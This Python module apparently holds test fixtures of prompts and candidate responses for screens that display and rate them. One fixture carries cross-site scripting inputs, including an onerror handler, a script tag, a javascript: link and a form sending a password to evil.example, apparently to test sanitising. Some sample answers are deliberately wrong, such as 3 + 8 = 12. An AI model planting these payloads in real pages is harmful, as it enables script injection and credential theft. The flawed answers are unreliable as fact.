"""Records of conversations and of responses to compare, as the tests of their screens label them."""

from typing import Any

FIBONACCI = {
    "prompt": "My recursive Fibonacci is slow in Python. How do I speed it up **without** rewriting it as a loop?",
    "responses": [
        "Use `functools.lru_cache`:\n\n```python\nfrom functools import lru_cache\n\n@lru_cache(maxsize=None)\n"
        "def fib(n: int) -> int:\n    return n if n < 2 else fib(n - 1) + fib(n - 2)\n```\n\nEach value is computed "
        "**once**, so the run time drops from exponential to linear.",
        "You can memoise with a dictionary:\n\n```python\nmemo = {}\ndef fib(n):\n    if n in memo:\n        return "
        "memo[n]\n    memo[n] = n if n < 2 else fib(n - 1) + fib(n - 2)\n    return memo[n]\n```\n\nThis is faster "
        "because results are stored.",
    ],
}
EVIL = {
    "prompt": "What is an <img> for?",
    "responses": [
        'It shows a picture.<img src="/favicon.svg?from=response" onerror="window.hacked = 1">\n\n'
        "<script>window.hacked = 2</script><style>body { display: none }</style>"
        '<form action="https://evil.example"><input name="password"></form>\n\n'
        "[a link](javascript:window.hacked=3) and [another](https://example.org/page)",
        "| tag | shows |\n|---|---|\n| `img` | a picture |\n| `p` | a paragraph |",
    ],
}
LONG = {
    "prompt": [
        {"role": "system", "content": "You are a patient teacher. Answer in whole sentences."},
        {"role": "user", "content": "What is the sky made of?"},
        {"role": "assistant", "content": "Of air: mostly nitrogen and oxygen."},
        {
            "role": "user",
            "content": "Then why is it blue, and red in the evening? " + "Explain it slowly. " * 30,
        },
    ],
    "responses": [
        {
            "id": "model-x",
            "text": "\n\n".join(f"{n}. Light of short waves is scattered more. " * 3 for n in range(1, 30)),
        },
        {"id": "model-y", "text": "Because of **Rayleigh scattering**."},
        {
            "id": "model-z",
            "text": "## In short\n\n" + "- The path through the air is longer in the evening.\n" * 24,
        },
        {"id": "model-w", "text": "It reflects the sea."},
    ],
    "references": [
        "Rayleigh (1871)",
        {"title": "An encyclopaedia", "text": "Sky", "url": "https://example.org/sky"},
    ],
}
MANY = {
    "prompt": "Give the project a name.",
    "responses": [
        f"{name}: " + "because it says what the thing is for. " * (place * 3 + 1)
        for place, name in enumerate(
            ["Swell", "Undertow", "Breaker", "Tideline", "Fathom", "Current", "Spindrift", "Harbour"]
        )
    ],
}


def pair(number: int) -> dict[str, Any]:
    """A question with a short and a wordy response, each to be told by its words."""
    return {
        "prompt": f"Question {number}: which is better?",
        "responses": [
            f"The short one of {number}.",
            f"The other one of {number}, which says a good deal more.",
        ],
    }


CRITERIA = [
    {
        "name": "correct",
        "low": 1,
        "high": 5,
        "labels": ["wrong", "right"],
        "description": "Does it do what it says?",
    },
    {"name": "clear", "low": 1, "high": 5, "labels": ["hard to follow", "easy"]},
    {"name": "brief", "low": 1, "high": 3},
]

STEPS = {
    "messages": [
        {"role": "user", "content": "Anna has 3 apples, and buys 2 bags of 4. How many has she?"},
        {
            "role": "assistant",
            "content": "She begins with 3 apples.\n\nTwo bags of 4 are $2 \\times 4 = 8$ apples.\n\n"
            "So she has $3 + 8 = 12$ apples. \N{RED APPLE}\n\nThe answer is **12**.",
        },
    ]
}
EGG = {
    "messages": [
        {"role": "system", "content": "You are a cook. Answer briefly."},
        {"role": "user", "content": "How long does an egg boil?"},
    ],
    "references": [{"title": "A cookbook", "text": "Soft: **four** minutes. Hard: ten."}],
}
DRAFT = {
    "messages": [
        *EGG["messages"],
        {
            "role": "assistant",
            "content": "An egg boils for about **six** minutes, i think.\n\n- soft: 4\n- hard: 10",
        },
    ]
}
